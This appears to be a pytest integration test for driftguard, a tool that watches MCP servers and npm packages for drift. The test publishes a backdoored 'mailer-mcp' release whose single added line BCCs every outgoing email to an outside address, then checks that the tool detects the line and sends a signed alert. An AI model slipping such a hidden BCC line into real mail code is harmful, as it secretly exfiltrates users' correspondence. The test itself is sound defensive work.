"""The postmark-mcp incident, end to end with real parts.

A local npm-protocol registry on 127.0.0.1 hosts ``mailer-mcp`` (a real stdio MCP server
written for this test, ``tests/packages/mailer-mcp``, on the official
``@modelcontextprotocol/sdk`` 1.32.2; its dependencies come through the registry from
registry.npmjs.org). ``driftguard.toml`` runs it as ``npx -y mailer-mcp`` with
``npm_config_registry`` pointing at the local registry, which also gives it the companion
surface ``mailer.package``. ``approve`` pins both at 1.0.15. Then 1.0.16 is published:
the same tools, and one added line that BCCs every outgoing message to a stranger.
``driftguard watch --once`` alerts a real webhook receiver (HMAC-signed) about the package
only — the catalog did not move — with the receipt: the added line, its file and line
number; ``check`` reports the same.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import REPO
from npmregistry import Registry, npm_tarball, serve
from watchkit import webhook_receiver

PACKAGES = Path(__file__).parent / "packages" / "mailer-mcp"
#: npm's own cache for these tests (downloaded dependencies are reused between runs; the
#: npx install directory is not, so every run installs what the registry serves now).
NPM_CACHE = REPO / "driftguard-py" / ".npm-test-cache"
PUBLISHER = {"name": "phanpak", "email": "phanpak@example.org"}
HOOK_SECRET = "hook-secret-5150"
BCC_LINE = 'Bcc: "phan@giftshop.club",'
RECEIPT = {
    "file": "index.js",
    "lines": [
        {
            "findings": ['bcc/cc header "Bcc"', 'email "phan@giftshop.club"'],
            "line": 36,
            "text": BCC_LINE,
        }
    ],
}


def mailer_release(version: str) -> tuple[dict[str, Any], bytes]:
    files = {p.name: p.read_bytes() for p in sorted((PACKAGES / version).iterdir())}
    return json.loads(files["package.json"]), npm_tarball(files)


def publish(reg: Registry, version: str) -> None:
    manifest, tarball = mailer_release(version)
    reg.publish_npm(manifest, tarball, extra={"_npmUser": PUBLISHER, "maintainers": [PUBLISHER]})


@pytest.fixture
def registry() -> Iterator[Registry]:
    if shutil.which("npx") is None:
        pytest.fail("npx (Node.js 20+) is needed: bash driftguard-py/ci/install.sh")
    shutil.rmtree(NPM_CACHE / "_npx", ignore_errors=True)
    with serve(Registry(upstream="https://registry.npmjs.org")) as reg:
        yield reg


def npx_installed() -> set[str]:
    """The versions of mailer-mcp npx has installed (in this run: `_npx` was emptied)."""
    found = (NPM_CACHE / "_npx").glob("*/node_modules/mailer-mcp/package.json")
    return {json.loads(p.read_text())["version"] for p in found}


def run(cwd: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "driftguard.cli", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )


@pytest.fixture
def hook() -> Iterator[tuple[str, Any]]:
    with webhook_receiver() as (url, receiver):
        yield url, receiver


def test_a_backdoored_release_is_caught_while_the_catalog_stays_identical(
    registry: Registry, hook: tuple[str, Any], tmp_path: Path
) -> None:
    hook_url, receiver = hook
    publish(registry, "1.0.15")
    project = tmp_path / "project"
    project.mkdir()
    (project / "driftguard.toml").write_text(
        f"""
[watch]
jitter = 0.0

[[alerts.webhook]]
name = "hook"
url = "{hook_url}/drift"
secret = "${{HOOK_SECRET}}"

[[surface]]
name = "mailer"
timeout = "240s"

[surface.mcp_stdio]
command = ["npx", "-y", "mailer-mcp"]

[surface.mcp_stdio.env]
npm_config_registry = "{registry.url}"
npm_config_cache = "{NPM_CACHE}"
"""
    )
    env = {
        **os.environ,
        "DRIFTGUARD_NOW": "2026-11-25T02:00:00Z",
        "DRIFTGUARD_CACHE": str(tmp_path / "dgcache"),
        "HOME": str(tmp_path / "home"),
        "HOOK_SECRET": HOOK_SECRET,
        "DRIFTGUARD_WATCH_INTERVAL": "50ms",
    }
    (tmp_path / "home").mkdir()
    env.pop("npm_config_registry", None)

    approve = run(project, env, "approve")
    assert approve.returncode == 0, approve.stderr
    lock = json.loads((project / "driftguard.lock").read_text())
    assert sorted(lock["surfaces"]) == ["mailer", "mailer.package"]
    pinned = lock["surfaces"]["mailer.package"]
    assert approve.stdout == (
        f"approved mailer {lock['surfaces']['mailer']['digest']}\n"
        f"approved mailer.package {pinned['digest']}\n"
    )
    surface = pinned["snapshot"]["surface"]
    assert (surface["name"], surface["version"]) == ("mailer-mcp", "1.0.15")
    assert surface["integrity"] == registry.npm["mailer-mcp"]["1.0.15"].integrity
    assert pinned["source"]["spec"] == "npm:mailer-mcp@latest"
    tools = lock["surfaces"]["mailer"]["snapshot"]["surface"]["tools"]
    assert sorted(tools) == ["send_email"]

    same = run(project, env, "check")
    assert same.returncode == 0, same.stdout + same.stderr
    assert npx_installed() == {"1.0.15"}

    # The watcher's first pass sees the approved shapes: nothing to alert.
    first = run(project, env, "watch", "--once")
    assert first.returncode == 0, first.stdout + first.stderr
    assert receiver.received == []

    # The backdoored release: identical tools, one added line.
    publish(registry, "1.0.16")
    del registry.agents[:]
    time.sleep(0.1)  # every surface is due again (interval 50ms)
    second = run(project, env, "watch", "--once")
    assert second.returncode == 0, second.stdout + second.stderr
    lines = second.stdout.splitlines()
    assert any(" mailer.package ok changed " in x and x.endswith(" DRIFT") for x in lines), (
        "\n".join(lines)
    )
    assert not any(" mailer ok " in x and x.endswith(" DRIFT") for x in lines), lines
    (alert,) = receiver.received  # one alert: the package; the catalog did not move
    signature = hmac.new(HOOK_SECRET.encode(), alert.body, hashlib.sha256).hexdigest()
    assert alert.headers["X-DriftGuard-Signature"] == "sha256=" + signature
    receipt = json.loads(alert.body)["receipt"]
    assert receipt["surface"] == "mailer.package"
    assert receipt["old_digest"] == pinned["digest"]
    assert receipt["max_severity"] == "breaking"
    alerted = receipt["report"]["changes"]
    assert [(c["rule"], c["severity"], c["path"]) for c in alerted] == [
        ("package-code-suspicious", "breaking", "file › index.js"),
        ("package-file-changed", "safe", "file › index.js"),
        ("package-version-changed", "dangerous", "package › version"),
    ]
    assert alerted[0]["after"] == RECEIPT
    assert HOOK_SECRET.encode() not in alert.body
    check = run(project, env, "check", "--format", "json")
    assert check.returncode == 1, check.stdout + check.stderr
    out = json.loads(check.stdout)
    by_name = {s["name"]: s for s in out["surfaces"]}
    assert by_name["mailer"]["status"] == "unchanged"
    pkg = by_name["mailer.package"]
    assert (pkg["status"], pkg["fails"]) == ("changed", True)
    changes = pkg["report"]["changes"]
    assert [(c["rule"], c["severity"], c["path"]) for c in changes] == [
        ("package-code-suspicious", "breaking", "file › index.js"),
        ("package-file-changed", "safe", "file › index.js"),
        ("package-version-changed", "dangerous", "package › version"),
    ]
    assert changes[0]["after"] == RECEIPT
    assert changes[2]["before"] == "1.0.15" and changes[2]["after"] == "1.0.16"
    # npx really installed and ran 1.0.16 for the catalog capture (it asked the registry
    # again), and the catalog was still identical.
    assert ("/mailer-mcp", "npm") in {(p, ua[:3]) for p, ua in registry.agents}
    assert "1.0.16" in npx_installed()

    text = run(project, env, "check")
    assert text.returncode == 1
    assert f'line 36: bcc/cc header "Bcc", email "phan@giftshop.club" — {BCC_LINE}' in text.stdout
    assert "mailer: unchanged" in text.stdout

    # The approved artifact came from the cache (by integrity). With an empty cache it is
    # downloaded again (the registry still states the approved integrity): same receipt,
    # even though the registry now names other maintainers for the approved version (who
    # maintains it is the approved snapshot's say; the bytes are the integrity's).
    registry.npm["mailer-mcp"]["1.0.15"].extra["maintainers"] = [
        {"name": "newcomer", "email": "newcomer@example.org"}
    ]
    fresh = {**env, "DRIFTGUARD_CACHE": str(tmp_path / "empty-cache")}
    again = run(project, fresh, "check", "--format", "json")
    assert again.returncode == 1
    report = {s["name"]: s for s in json.loads(again.stdout)["surfaces"]}["mailer.package"]
    assert report["report"]["changes"][0]["after"] == RECEIPT

    # The approved version unpublished: the cache still has it, the review still runs.
    del registry.npm["mailer-mcp"]["1.0.15"]
    cached = run(project, env, "check", "--format", "json")
    report = {s["name"]: s for s in json.loads(cached.stdout)["surfaces"]}["mailer.package"]
    assert report["report"]["changes"][0]["after"] == RECEIPT
    # Neither cached nor published: the changed code is not reviewed — and says so.
    gone = run(
        project, {**env, "DRIFTGUARD_CACHE": str(tmp_path / "other")}, "check", "--format", "json"
    )
    report = {s["name"]: s for s in json.loads(gone.stdout)["surfaces"]}["mailer.package"]
    assert [(c["rule"], c["severity"]) for c in report["report"]["changes"]] == [
        ("package-code-not-reviewed", "dangerous"),
        ("package-file-changed", "safe"),
        ("package-version-changed", "dangerous"),
    ]
    # Both artifacts are cached by integrity where DRIFTGUARD_CACHE says, nowhere else.
    assert sorted(os.listdir(tmp_path / "dgcache" / "packages")) == sorted(
        "sha512-" + hashlib.sha512(mailer_release(v)[1]).hexdigest() for v in ("1.0.15", "1.0.16")
    )
    assert not (tmp_path / "home" / ".cache").exists()
    # Nothing of the registry's URL (a secret: it is in the surface's env) is printed.
    for r in (approve, same, first, second, check, text, again, cached, gone):
        assert registry.url.rstrip("/") not in r.stdout + r.stderr
